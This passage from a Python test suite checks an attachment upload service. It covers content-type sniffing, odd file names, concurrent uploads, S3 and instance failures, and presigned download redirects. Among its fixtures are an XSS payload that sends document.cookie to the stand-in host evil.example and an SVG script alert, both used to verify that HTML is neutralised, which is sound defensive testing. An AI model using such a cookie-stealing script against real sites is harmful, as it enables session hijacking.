            ("image/gif", b"GIF87a\x01\x00\x01\x00" + binary(30, 15), "image/gif"),
            ("image/webp", riff, "image/webp"),
            ("application/pdf", pdf, "application/pdf"),
            ("application/zip", zip_, "application/zip"),
            ("application/zip", b"PK\x05\x06" + b"\x00" * 18, "application/zip"),
            ("text/plain; charset=utf-8", "h\u00e9llo w\u00f6rld \U0001F600\n".encode(),
             "text/plain"),
            ("text/plain", b"col\tA\x1b[1mbold\x1b[0m\x0c\r\n", "text/plain"),
            ("text/plain", cut, "text/plain"),
            ("", PNG + binary(100, 16), "image/png"),
            (None, pdf, "application/pdf"),
            ("application/octet-stream", TEXT, "text/plain"),
            ("application/octet-stream", b"", "application/octet-stream"),
            ("image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)"
                              b"</script></svg>", "text/plain"),
            ("application/x-unknown", binary(64, 17), "application/octet-stream"),
            ("image/jpg", JPEG + binary(100, 18), "image/jpeg"),
            # big enough for a multipart upload, begun before the first byte is sniffed
            ("image/png", text_bytes(PART + MIB), 415),
            ("application/pdf", binary(PART + MIB, 19), 415),
        ]
        for declared, data, want in cases:
            with self.subTest(declared=declared, size=len(data), head=data[:12]):
                if want == 415:
                    before = self.snapshot()
                    out = self.upload(b, item_id, data, ctype=declared)
                    self.assert_error(out, 415, "unsupported_media_type")
                    self.assert_nothing_stored(before, "for refused bytes")
                else:
                    self.assertEqual(sniff(data), want)  # the test's own reading agrees
                    att = self.upload_ok(b, item_id, data, ctype=declared)
                    self.assertEqual(att["content_type"], want)
                    self.assert_stored(att, data)
                    r = b.request("GET", att["url"])
                    self.check_download(r, att, data)

    def test_html_is_stored_as_text_and_downloaded_as_attachment(self):
        b = self.user("html")
        item_id = self.new_item(b)
        html = (b"<!DOCTYPE html><html><head><title>x</title></head><body>"
                b"<script>document.location='http://evil.example/?'+document.cookie</script>"
                b"</body></html>\n")
        for declared in ("text/html", "text/html; charset=utf-8", "application/xhtml+xml"):
            with self.subTest(declared=declared):
                att = self.upload_ok(b, item_id, html, name="page.html", ctype=declared)
                self.assertEqual(att["content_type"], "text/plain")
                self.assert_stored(att, html)
                for edge in self.stack.edges[:2]:
                    r = self.on_edge(b, edge).request("GET", att["url"])
                    self.check_download(r, att, html)
                    self.assertNotIn("html", r.header("Content-Type").lower())
                    self.assertTrue(r.header("Content-Disposition").startswith("attachment"))

    # ---------------------------------------------------------- file names

    def test_file_name_corpus(self):
        with open(CORPUS, encoding="utf-8") as f:
            entries = json.load(f)["names"]
        self.assertGreaterEqual(len(entries), 100)
        b = self.user("names")
        data = b"a file with an odd name\n"
        item_id, on_item = None, ATTACH_MAX
        stored = []  # (entry, attachment)
        refused = 0
        rows_before, objects_before = self.snapshot()
        for entry in entries:
            raw = entry["raw"] if "raw" in entry else encode_name(entry["name"])
            label = "%s (%s)" % (ascii(raw[:60]), entry["why"])
            with self.subTest(name=label):
                if on_item >= 50:
                    item_id, on_item = self.new_item(b), 0
                t0 = time.time()
                out = self.upload(b, item_id, data, raw_name=raw, ctype="text/plain")
                self.assertIsNotNone(out.reply, out)
                if entry["expect"] == 400 or (entry["expect"] == "either" and out.status == 400):
                    self.assert_error(out, 400, "invalid", field="name")
                    refused += 1
                    continue
                self.assertEqual(out.status, 201, out)
                on_item += 1
                att = out.reply.json()["attachment"]
                name = entry["name"]
                self.check_attachment(att, b, item_id, name, data, t0)
                stored.append((entry, att))
                # the stored row, read on the primary: the key is ours, the name verbatim
                key, size, digest, ctype, name_bytes = self.row(att["id"])
                self.assertRegex(key, KEY_RE)
                self.assertEqual(name_bytes, name.encode("utf-8"))
                # the download: a head that parses, one disposition, nothing injected
                status, headers, body = raw_get(self.port, att["url"], b.cookie_header())
                self.assertRegex(status, rb"^HTTP/1\.1 200 ")
                for hname, value, line in headers:
                    self.assertIsNotNone(value, "header line without a colon: %r" % line)
                    self.assertRegex(hname, TOKEN_RE, "bad header name in %r" % line)
                    self.assertRegex(value, FIELD_VALUE_RE, "bad header value in %r" % line)
                names = [h[0].lower() for h in headers]
                for unique in (b"content-disposition", b"content-type", b"content-length",
                               b"etag"):
                    self.assertEqual(names.count(unique), 1, "%s in %r" % (unique, names))
                self.assertFalse([n for n in names if b"inject" in n], names)
                self.assertEqual(body, data)
                disp = [v for n, v, _ in headers if n.lower() == b"content-disposition"]
                self.check_disposition([d.decode("ascii") for d in disp], name)
        self.assertGreater(refused, 30)
        self.assertGreater(len(stored), 80)
        # nothing else reached the bucket: the new objects are exactly the rows' keys
        new = set(self.objects()) - set(objects_before)
        keys = {self.row(att["id"])[0] for _, att in stored}
        self.assertEqual(new, keys)
        self.assertEqual(self.all_rows(), rows_before + len(stored))
        self.assert_no_multipart_left()

    # ---------------------------------------------------------- load

    def test_concurrent_uploads(self):
        n = 50
        b = self.user("many")
        item_id = self.new_item(b)
        files = [binary(MIB, 100 + i) for i in range(n)]
        edges = self.stack.edges[:2]

        def up(i):
            c = b.copy()
            c.port = edges[i % len(edges)].port
            try:
                t0 = time.time()
                out = self.upload(c, item_id, files[i], name="c%02d.bin" % i)
                return i, out, t0, c.cookies.get("shoal_lsn")
            finally:
                c.close()
        with concurrent.futures.ThreadPoolExecutor(n) as pool:
            results = list(pool.map(up, range(n)))
        failed = [(i, out) for i, out, _, _ in results if out.status != 201]
        self.assertEqual(failed, [], "%d of %d uploads failed" % (len(failed), n))
        atts = {}
        for i, out, t0, lsn in results:
            att = out.reply.json()["attachment"]
            self.check_attachment(att, b, item_id, "c%02d.bin" % i, files[i], t0)
            atts[i] = att
        self.keep_newest_lsn(b, [lsn for _, _, _, lsn in results])
        self.assertEqual(len({a["id"] for a in atts.values()}), n)

        def down(i):
            c = b.copy()
            c.port = edges[(i + 1) % len(edges)].port
            try:
                return i, c.request("GET", atts[i]["url"])
            finally:
                c.close()
        with concurrent.futures.ThreadPoolExecutor(10) as pool:
            for i, r in pool.map(down, range(n)):
                self.check_download(r, atts[i], files[i])
        keys = {self.row(a["id"])[0] for a in atts.values()}
        self.assertEqual(len(keys), n)
        self.assertLessEqual(keys, set(self.objects()))
        r = b.request("GET", "/api/items/%d/attachments" % item_id)
        self.assertEqual(sorted(a["id"] for a in r.json()["attachments"]),
                         sorted(a["id"] for a in atts.values()))
        self.assert_no_multipart_left()


class UploadFailures(UploadCase):
    """S3 stopped and an upload instance killed in the middle of an upload.
    A fresh stack per test; no registry, so that an edge given one upload
    endpoint talks to that instance only."""

    shared = False
    healths = 0
    replica = False
    edges = 1
    # answers within seconds: short S3 and chunk timeouts
    # (the edge waits longer for a chunk than S3 calls may take, so that S3
    # down is the upload service's 503 and not the edge's 504)
    edge_env = dict(UPLOAD_EDGE_ENV, SHOAL_UPLOAD_TIMEOUT_MS="8000")
    upload_env = dict(UPLOAD_ENV, SHOAL_S3_TIMEOUT_MS="3000", SHOAL_S3_CONNECT_TIMEOUT_MS="500",
                      SHOAL_S3_RETRIES="2")
    BIG = 64 * MIB
    CUT_AT = 12 * MIB       # client bytes sent before the failure is caused
    ANSWER_WITHIN_S = 15.0  # from the failure to the client's answer

    def pinned_edge(self, upload):
        return self.stack.add_edge(upload_endpoints=[upload.endpoint],
                                   name="edge-%s" % upload.name)

    def fail_mid_upload(self, b, item_id, edge, cause):
        """Upload BIG bytes through `edge` and call cause() once CUT_AT
        bytes went; returns (Sent, seconds from cause() to the answer)."""
        data = binary(self.BIG, 20)
        when = {}

        def on_sent(n):
            if n >= self.CUT_AT and "t" not in when:
                when["t"] = time.monotonic()
                cause()
        out = self.upload(b, item_id, data, name="big.bin", edge=edge, on_sent=on_sent,
                          timeout=self.ANSWER_WITHIN_S + 30)
        self.assertIn("t", when, "the upload ended before %d bytes went: %r" % (self.CUT_AT, out))
        return out, out.finished - when["t"]

    def orphan_key(self):
        return "uploads/" + os.urandom(16).hex()

    def test_s3_stopped_mid_upload(self):
        s3 = self.stack.s3
        b = self.user("s3down")
        item_id = self.new_item(b)
        kept_data = binary(PART + 1, 21)
        kept = self.upload_ok(b, item_id, kept_data, name="kept.bin")
        kept_key = self.row(kept["id"])[0]
        orphan = self.orphan_key()  # an object without a row, as a lost finish leaves
        s3.put_object(orphan, b"orphan")
        self.assertEqual(self.multiparts(), [])

        out, after = self.fail_mid_upload(b, item_id, self.stack.edge, s3.stop)
        self.assert_error(out, 503, "unavailable")
        self.assertIsNotNone(out.reply.header("Retry-After"), out.reply.headers)
        self.assertLess(after, self.ANSWER_WITHIN_S, "503 came %.1fs after S3 stopped" % after)
        print("\n  S3 stopped after %d MiB sent: 503 after %.3fs (%d MiB sent in all)"
              % (self.CUT_AT // MIB, after, out.sent // MIB))
        self.assertEqual(self.rows_of(item_id), 1, "a row for the failed upload")
        self.assertTrue(s3.uploads_on_disk(), "no multipart upload was begun in S3")

        s3.start()
        # the services were not restarted: the next upload works again
        again = self.upload_ok(b, item_id, binary(PART + 1, 22), name="again.bin")

        def swept():
            rc, output = self.stack.uploads[0].sweep(env={"SHOAL_UPLOAD_SWEEP_AGE_MS": "1000"})
            self.assertEqual(rc, 0, output)
            return not self.multiparts() and orphan not in self.objects()
        wait_until(swept, 20, "a sweep to abort the failed multipart upload and delete the "
                              "orphan object")
        self.assertEqual(s3.uploads_on_disk(), [])
        objects = self.objects()
        self.assertIn(kept_key, objects, "the sweeper deleted an object that has a row")
        self.assertIn(self.row(again["id"])[0], objects)
        self.assertEqual(set(objects), {kept_key, self.row(again["id"])[0]})
        self.check_download(b.request("GET", kept["url"]), kept, kept_data)

    def test_upload_instance_killed_mid_upload(self):
        victim, survivor = self.stack.uploads
        edge = self.pinned_edge(victim)
        b = self.user("killed", edge=edge)
        item_id = self.new_item(b)
        self.assertEqual(self.multiparts(), [])
        objects_before = self.objects()

        out, after = self.fail_mid_upload(b, item_id, edge, victim.kill)
        print("\n  upload instance killed after %d MiB sent: %r after %.3fs (%d MiB sent)"
              % (self.CUT_AT // MIB, out.status or out.error, after, out.sent // MIB))
        # the contract: upload instance lost -> 503
        self.assert_error(out, 503, "unavailable")
        self.assertLess(after, self.ANSWER_WITHIN_S, "the answer came %.1fs after the kill"
                        % after)
        self.assertEqual(self.rows_of(item_id), 0, "a row for the lost upload")
        self.assertEqual(self.objects(), objects_before)
        left = self.multiparts()
        self.assertEqual(len(left), 1, "the killed instance's multipart upload: %r" % (left,))

        # the other instance serves meanwhile (through an edge that knows both)
        other = self.on_edge(b, self.stack.edge)
        wait_until(lambda: self.upload(other, item_id, b"still here\n", name="s.txt",
                                       ctype="text/plain").status == 201,
                   10, "an upload through the surviving instance")
        survived = self.objects()

        # restarted with a fast sweeper, the instance cleans up what it left
        sweeper_off = victim.extra_env.pop("SHOAL_UPLOAD_SWEEP_INTERVAL_MS")
        victim.sweep_interval_ms, victim.sweep_age_ms = 300, 1000
        victim.start()
        wait_until(lambda: not self.multiparts(), 15,
                   "the restarted instance's sweeper to abort the abandoned multipart upload")
        self.assertEqual(self.stack.s3.uploads_on_disk(), [])
        # and keeps what has a row
        self.assertEqual(self.objects(), survived)
        self.assertEqual(self.rows_of(item_id), 1)
        # back to normal settings (a sweeper with no age could take a new
        # object between its completion and its row), it serves again
        victim.stop()
        victim.extra_env["SHOAL_UPLOAD_SWEEP_INTERVAL_MS"] = sweeper_off
        victim.start()
        after = binary(PART + 1, 23)
        wait_until(lambda: self.upload(b, item_id, after, name="after.bin",
                                       edge=edge).status == 201,
                   10, "an upload through the restarted instance")


if __name__ == "__main__":
    unittest.main()


class PresignedDownloads(UploadCase):
    """SHOAL_DOWNLOAD_MODE=presigned: the edge answers a download with 302
    to a short-lived URL of the S3 server, which serves the bytes with the
    attachment's Content-Disposition and type."""

    edges = 1
    uploads = 1
    edge_env = dict(UPLOAD_EDGE_ENV, SHOAL_DOWNLOAD_MODE="presigned",
                    SHOAL_DOWNLOAD_URL_TTL_S="120")

    def test_download_redirects_to_a_presigned_url(self):
        b = self.user("presign")
        item_id = self.new_item(b)
        data = text_bytes(300000)
        att = self.upload_ok(b, item_id, data, name="report (1).txt", ctype="text/plain")
        key = self.assert_stored(att, data)
        status, headers, body = raw_get(b.port, att["url"], b.cookie_header())
        self.assertIn(b" 302 ", status)
        location = [v for n, v, _ in headers if n.lower() == b"location"]
        self.assertEqual(len(location), 1, headers)
        url = urllib.parse.urlparse(location[0].decode("ascii"))
        query = urllib.parse.parse_qs(url.query)
        # the S3 server's own address and the object key, signed, for 120 s
        self.assertEqual((url.hostname, url.port), (LOOPBACK, self.stack.s3.port))
        self.assertEqual(url.path, "/%s/%s" % (self.stack.s3.bucket, key))
        self.assertEqual(query["X-Amz-Expires"], ["120"])
        self.assertEqual(query["X-Amz-SignedHeaders"], ["host"])
        self.assertRegex(query["X-Amz-Signature"][0], r"^[0-9a-f]{64}$")
        self.assertEqual(query["response-content-type"], ["text/plain"])
        disposition = query["response-content-disposition"][0]
        self.assertTrue(disposition.startswith('attachment; filename="report (1).txt"'),
                        disposition)
        self.assertEqual(json.loads(body), {"url": location[0].decode("ascii")})
        # anyone holding the URL reads the bytes, without the session
        conn = http.client.HTTPConnection(url.hostname, url.port, timeout=30)
        try:
            conn.request("GET", url.path + "?" + url.query)
            reply = conn.getresponse()
            got = reply.read()
        finally:
            conn.close()
        self.assertEqual(reply.status, 200)
        self.assertEqual(sha256(got), sha256(data))
        # without a session the edge hands out no URL
        status, headers, _ = raw_get(b.port, att["url"], "")
        self.assertIn(b" 401 ", status)
